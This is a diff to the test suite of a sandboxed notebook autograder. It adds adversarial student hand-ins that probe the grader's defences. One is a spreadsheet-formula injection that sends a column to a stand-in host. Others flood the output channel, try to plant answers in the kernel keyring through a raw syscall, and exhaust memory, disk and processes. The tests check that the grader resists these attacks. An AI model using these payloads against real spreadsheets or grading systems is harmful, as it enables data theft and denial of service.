@@ -166,10 +166,22 @@ def graded(course, tmp_path_factory):
             cell.source = f"### BEGIN SOLUTION\n{NAMES[calc[2].id]} = 1 / 0\n### END SOLUTION"
     hand_ins["judy"] = judy
     hand_ins["kim"] = nbformat.read(OTHER, as_version=4)  # notebook 01 saved under notebook 00's name
+    # nora: text that is not valid UTF-8 (a lone surrogate) in a written answer and in an error, and a written
+    # answer a spreadsheet would run as a formula
+    nora = _copy(source)
+    written_cell = next(c for c in nora.cells if c.cell_type == "markdown"
+                        and c.metadata.get("nbgrader", {}).get("grade_id") == f"ex00_{WRITTEN[0].id.split('.')[1]}")
+    written_cell.source = '=HYPERLINK("http://example.invalid/?"&TEXTJOIN(",",1,F:F),"see") \ud800'
+    last = [e for e in AUTO if e.kind != "prediction"][-1]
+    nora.cells.append(nbformat.v4.new_code_cell(f'{NAMES[last.id]} = None\nraise ValueError("bad \\ud800 text")'))
+    hand_ins["nora"] = nora
+    # olga: floods the channel the answers come back on
+    hand_ins["olga"] = _with(source, ["import json, os\nfd = json.load(open('/sandbox/job.json'))['fd']\n"
+                                      "while True:\n    os.write(fd, b'\\n' * 2**20 + b'{}\\n' * 1000)"])
     for who, nb in hand_ins.items():
         (subs / who).mkdir()
         target = subs / who / NB.name
-        target.write_text(nb if isinstance(nb, str) else json.dumps(nb) if who == "ivan" else nbformat.writes(nb))
+        target.write_text(nb if isinstance(nb, str) else json.dumps(nb) if who in ("ivan", "nora") else nbformat.writes(nb))
     (subs / "carol" / "notes.txt").write_text("my notes")
     (subs / "carol" / ".ipynb_checkpoints").mkdir()
     shutil.copy2(NB, subs / "carol" / ".ipynb_checkpoints" / "00_start_here-checkpoint.ipynb")
@@ -238,6 +250,23 @@ def test_values_that_are_not_plain_cannot_be_judged_and_odd_json_is_read(graded)
     assert "not a notebook" in rows_of(graded, "dave")[""]["detail"]
 
 
+def test_text_that_is_not_utf8_and_spreadsheet_formulas_are_written_safely(graded):
+    last = [e for e in AUTO if e.kind != "prediction"][-1]
+    got, alice = rows_of(graded, "nora"), statuses(graded, "alice")
+    assert {k: r["status"] for k, r in got.items() if k != last.id} == {k: v for k, v in alice.items() if k != last.id}
+    assert got[last.id]["status"] == "error" and "ValueError: bad" in got[last.id]["detail"]
+    assert "\ud800" not in got[last.id]["detail"]
+    written = list(csv.DictReader((graded["out"] / "written.csv").open(encoding="utf-8")))
+    answer = next(w["answer"] for w in written if w["student"] == "nora" and w["exercise"] == WRITTEN[0].id)
+    assert answer.startswith("'=HYPERLINK") and "\ud800" not in answer
+
+
+def test_a_flood_of_answers_stops_the_hand_in_not_the_grader(graded):
+    got = statuses(graded, "olga")
+    assert got[""] == "output limit"
+    assert {k: v for k, v in got.items() if k in right_answers()} == right_answers()
+
+
 def test_deleted_checks_are_missing_duplicates_count_once_and_raising_cells_are_errors(graded):
     calc = [e for e in AUTO if e.kind != "prediction"]
     got = rows_of(graded, "judy")
@@ -261,14 +290,14 @@ def test_results_are_complete_current_and_summarised(graded):
     assert sorted(p.name for p in out.iterdir()) == sorted([*grade.RESULTS, "previous"])
     assert (out / "previous" / "scores.csv").read_text().startswith("student,notebook\nstale")
     assert {r["student"] for r in graded["rows"]} == {"alice", "bob", "carol", "dave", "erin", "frank", "gina",
-                                                      "hank", "ivan", "judy", "kim", "leo"}
+                                                      "hank", "ivan", "judy", "kim", "leo", "nora", "olga"}
     summary = graded["summary"]
-    assert "12 hand-ins graded" in summary and "4 files skipped" in summary
+    assert "14 hand-ins graded" in summary and "4 files skipped" in summary
     assert "bubblewrap sandbox" in summary and "answer key was never in the sandbox" in summary
-    assert graded["stdout"].index("bubblewrap sandbox") < graded["stdout"].index("[1/12]"), \
+    assert graded["stdout"].index("bubblewrap sandbox") < graded["stdout"].index("[1/14]"), \
         "how hand-ins are isolated is said before the first runs"
     progress = [line for line in graded["stdout"].splitlines() if line.startswith("[")]
-    assert len(progress) == 12 and progress[-1].startswith("[12/12]")
+    assert len(progress) == 14 and progress[-1].startswith("[14/14]")
     written = list(csv.DictReader((out / "written.csv").open()))
     alice = [w for w in written if w["student"] == "alice" and w["exercise"] in {e.id for e in WRITTEN}]
     assert alice and all(w["rubric"].startswith("Full marks") and w["answer"] for w in alice)
@@ -300,6 +329,9 @@ def test_hand_marks_merge_into_the_totals(graded, tmp_path):
 
 
 # -------------------------------------------------------------- attacks on the key and on each other
+ADD_KEY = {"x86_64": 248, "aarch64": 217}.get(os.uname().machine, 248)
+
+
 def _attacker(course: Path, victim_dir: str) -> str:
     """A hand-in that tries everything a student with the course's code in hand could: read or compute the
     answer key (imported, from the course's files on disk), replace the checking functions, reach the hand-in
@@ -332,6 +364,11 @@ for place in {keys!r}:
         print("no key at", place, exc)
 for name in ANSWERS:
     globals()[name] = got.get(name, 12345.0)
+# 0. a note for a hand-in graded later, in the kernel's keyring (not separated by namespaces)
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+stored = libc.syscall({ADD_KEY}, b"user", b"{MARK}", b"the answers", 11, ctypes.c_int(-4))
+globals()[list(ANSWERS)[0]] = f"keyring: {{'stored' if stored >= 0 else 'refused'}}"
 # 3. the checking functions replaced
 def check(*args, **kwargs):
     print("Exercise: Right.")
@@ -432,6 +469,11 @@ def test_the_attacker_earns_nothing(attacked):
     assert automatic(attacked, "mallory") == 0
 
 
+def test_the_kernel_keyring_is_closed_to_hand_ins(attacked):
+    first = [e for e in AUTO if e.kind != "prediction"][0]
+    assert "keyring: refused" in rows_of(attacked, "mallory")[first.id]["detail"]
+
+
 def test_the_hand_in_graded_beside_it_keeps_its_result(attacked):
     assert {k: v for k, v in statuses(attacked, "vera").items() if k in right_answers()} == right_answers()
     assert rows_of(attacked, "vera").get("", {}).get("status") is None, "the victim's run ended normally"
@@ -483,3 +525,57 @@ def test_no_submissions_is_a_clear_error(tmp_path):
         grade.grade(tmp_path / "subs", tmp_path / "subs" / "graded", echo=lambda *_: None)
     with pytest.raises(ValueError, match="memory mb limit must be a positive number"):
         grade.Limits(memory_mb=0)
+
+
+# ------------------------------------------------------------------------------- limits of a hand-in
+LIMITS_PROBE = '''
+import ctypes, os, subprocess, time
+report = {}
+children = []
+for i in range(3):  # three processes of 700 MB each, touched: more than the 1,536 MB the hand-in may use
+    pid = os.fork()
+    if pid == 0:
+        block = bytearray(700 * 2**20)
+        for j in range(0, len(block), 4096):
+            block[j] = 1
+        time.sleep(2)
+        os._exit(0)
+    children.append(pid)
+report["killed"] = sum(os.waitpid(p, 0)[1] != 0 for p in children)
+written = 0
+try:
+    while True:
+        with open(f"/sandbox/work/f{written}", "wb") as fh:
+            fh.write(b"y" * 20 * 2**20)
+        written += 1
+except OSError:
+    report["folder_mb"] = written * 20
+started = []
+try:
+    for i in range(400):
+        started.append(subprocess.Popen(["sleep", "30"]))
+except OSError:
+    pass
+report["processes"] = len(started)
+'''
+
+
+def test_a_hand_in_is_limited_as_a_whole_or_the_summary_says_it_is_not(tmp_path):
+    from grading.limits import Limits
+    from grading.sandbox import Sandbox
+
+    if why := _bwrap_missing():
+        pytest.skip(why)
+    limits = Limits(seconds=120, memory_mb=1536, disk_mb=256, processes=128)
+    sandbox = Sandbox(tmp_path, limits)
+    run = sandbox.run([{"source": LIMITS_PROBE + "report = __import__('json').dumps(report)", "probe": True}],
+                      {"report"}, 0)
+    assert run.fate == "ran", run
+    report = json.loads(run.values["report"])  # a dictionary cannot leave the sandbox: its text can
+    assert report["folder_mb"] <= 256, report  # the writable folder is in memory, and no larger than disk_mb
+    if sandbox.groups:
+        assert "limited as a whole" in sandbox.describe()
+        assert report["killed"] >= 1, report  # the hand-in as a whole ran out of memory, not the machine
+        assert report["processes"] < 128, report
+    else:
+        assert "limited per process" in sandbox.describe()
